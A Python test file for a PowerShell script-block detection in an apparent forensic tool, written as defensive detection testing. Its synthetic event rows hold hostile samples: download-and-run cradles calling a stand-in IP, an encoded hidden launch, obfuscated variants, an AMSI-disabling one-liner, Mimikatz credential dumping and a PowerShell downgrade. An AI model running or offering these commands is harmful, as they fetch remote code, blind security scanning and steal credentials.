"""evtx.powershell-script-block on events built as Windows writes them: behaviours named as
structured reasons and weighed, long script blocks joined by ScriptBlockId, comments and simple
obfuscation undone before matching, -EncodedCommand launches judged decoded, the classic log's
800/400 events and the PowerShell 2.0 downgrade; benign administration is not reported."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

from seawall.case.store import CaseStore
from seawall.detect.engine import HuntRequest, hunt
from seawall.model.finding import Finding, ResultDocument
from tests.evtx_rows import POWERSHELL, SECURITY, SYSMON, event, load_events

DETECTION = "evtx.powershell-script-block"
CLASSIC = "Windows PowerShell"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _hunt(case_dir: Path, rows: list[dict[str, Any]], **params: Any) -> ResultDocument:
    with CaseStore.open(case_dir) as store:
        load_events(store, rows)
        return hunt(
            store,
            HuntRequest(
                detection_ids=(DETECTION,), parameters={DETECTION: params} if params else {}
            ),
        )


def _findings(document: ResultDocument) -> list[Finding]:
    assert all(e.status == "ran" for e in document.coverage), document.coverage
    return [f for f in document.findings if f.detection_id == DETECTION]


def _codes(finding: Finding) -> set[str]:
    return {r.code for r in finding.reasons} - {"score.formula"}


def block(
    text: str, *, computer: str = "ws1", time: str = "2024-03-01T10:00:00Z", **extra: Any
) -> dict[str, Any]:
    return event(
        4104, {"ScriptBlockText": text, **extra}, channel=POWERSHELL, computer=computer, time=time
    )


def classic(
    event_id: int, details: str, *, computer: str = "ws1", first: str = ""
) -> dict[str, Any]:
    """A classic Windows PowerShell event: unnamed <Data>, joined as the EVTX reader does."""
    return event(
        event_id,
        {"Data": f"{first}\n{details}", "Data_1": first, "Data_2": details},
        channel=CLASSIC,
        provider="PowerShell",
        computer=computer,
    )


def test_script_parts_are_joined_and_every_behaviour_is_a_weighed_reason(case_dir: Path) -> None:
    """A script logged in three 4104 parts, cut inside two keywords, is one finding."""
    parts = [
        "$m = Invoke-Mimi",
        "katz -DumpCreds; $p = [Win32]::Virtual",
        "Alloc(0, 4096, 0x3000, 0x40)",
    ]
    rows = [
        block(
            part,
            ScriptBlockId="b-1",
            MessageNumber=i,
            MessageTotal=3,
            time=f"2024-03-01T10:00:0{i}Z",
        )
        for i, part in enumerate(parts, 1)
    ]
    (finding,) = _findings(_hunt(case_dir, rows))
    assert _codes(finding) == {"powershell.mimikatz", "powershell.native-memory"}
    weights = {r.code: r.data["weight"] for r in finding.reasons}
    assert weights == {"powershell.mimikatz": 2, "powershell.native-memory": 2, "score.formula": 4}
    assert finding.score == 95 and finding.severity == "high"
    assert "T1003.001" in finding.techniques and "T1055" in finding.techniques
    assert len(finding.evidence[0].records) == 3
    assert finding.evidence[0].row["script"] == "".join(parts)


def test_benign_administration_and_comments_are_not_reported(case_dir: Path) -> None:
    rows = [
        block("Get-ChildItem C:\\logs -Filter *.old | Remove-Item -WhatIf"),
        # one weak behaviour alone: a download to a file
        block("Invoke-WebRequest https://intranet.example/tool.msi -OutFile $env:TEMP\\tool.msi"),
        # a defensive script naming offensive tools only in comments
        block(
            "<# looks for sekurlsa:: and Invoke-Shellcode in logs #>\n"
            "# also: VirtualAlloc, AmsiUtils\nGet-WinEvent -LogName Security -MaxEvents 10"
        ),
        # PowerShell 2.0 on a host that only has 2.0 is no downgrade
        classic(
            400,
            "\tNewEngineState=Available\r\n\tEngineVersion=2.0\r\n\tHostApplication=powershell.exe",
        ),
    ]
    assert _findings(_hunt(case_dir, rows)) == []


def test_concatenation_and_backticks_are_undone(case_dir: Path) -> None:
    rows = [
        block(
            "&('I'+'EX') (('New-Ob'+'ject Net.WebC'+'lient').('Down'+'loadStr'+'ing')"
            "('http://198.51.100.7/a'))"
        ),
        block("$w = New-Object Net.`We`bCl`ient; $w.\"Down`loadStr`ing\"('http://x/a') | I`EX"),
    ]
    findings = _findings(_hunt(case_dir, rows))
    assert len(findings) == 2
    for finding in findings:
        assert {"powershell.download", "powershell.run-text"} <= _codes(finding)


def test_encoded_launch_is_judged_on_its_decoded_text(case_dir: Path) -> None:
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage')"
    blob = base64.b64encode(cradle.encode("utf-16-le")).decode()
    rows = [
        event(
            1,
            {
                "Image": PS,
                "CommandLine": f"powershell -nop -w hidden -enc {blob}",
                "User": "CORP\\bob",
            },
            channel=SYSMON,
        ),
        event(
            4688,
            {
                "NewProcessName": PS,
                "CommandLine": "powershell -c Get-Date",
                "SubjectUserName": "bob",
            },
            channel=SECURITY,
        ),
    ]
    (finding,) = _findings(_hunt(case_dir, rows))
    assert _codes(finding) == {"powershell.download", "powershell.run-text"}
    assert finding.evidence[0].row["decoded"] == cradle
    assert finding.user == "CORP\\bob"


def test_classic_log_pipeline_and_downgrade(case_dir: Path) -> None:
    amsi = (
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
        ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
    )
    rows = [
        classic(800, "\tUserId=CORP\\eve\r\n\tHostApplication=powershell.exe\r\n", first=amsi),
        # the downgrade: a 2.0 engine on a host that also runs 5.1
        classic(
            400, "\tEngineVersion=5.1.17763.1\r\n\tHostApplication=powershell.exe", computer="ws2"
        ),
        classic(
            400,
            "\tEngineVersion=2.0\r\n\tHostApplication=powershell.exe -version 2",
            computer="ws2",
        ),
    ]
    findings = {f.host: f for f in _findings(_hunt(case_dir, rows))}
    assert _codes(findings["ws1"]) == {"powershell.amsi-etw-tamper"}
    assert findings["ws1"].user == "CORP\\eve"
    assert _codes(findings["ws2"]) == {"powershell.downgrade"}
    assert "T1562" in findings["ws2"].techniques


def test_same_code_is_one_finding_per_host_and_min_weight_applies(case_dir: Path) -> None:
    code = "Get-GPPPassword | Out-File C:\\PerfLogs\\p.txt"
    rows = [
        block(code, time="2024-03-01T10:00:00Z"),
        block(code, time="2024-03-01T11:00:00Z"),
        block(code, computer="ws2"),
    ]
    findings = _findings(_hunt(case_dir, rows))
    assert sorted(f.host or "" for f in findings) == ["ws1", "ws2"]
    ws1 = next(f for f in findings if f.host == "ws1")
    assert ws1.evidence[0].row["runs"] == 2 and len(ws1.evidence[0].records) == 2
    assert _codes(ws1) == {"powershell.credential-tools"} and ws1.severity == "medium"
    assert _findings(_hunt(case_dir.with_name("strict"), rows, min_weight=3)) == []
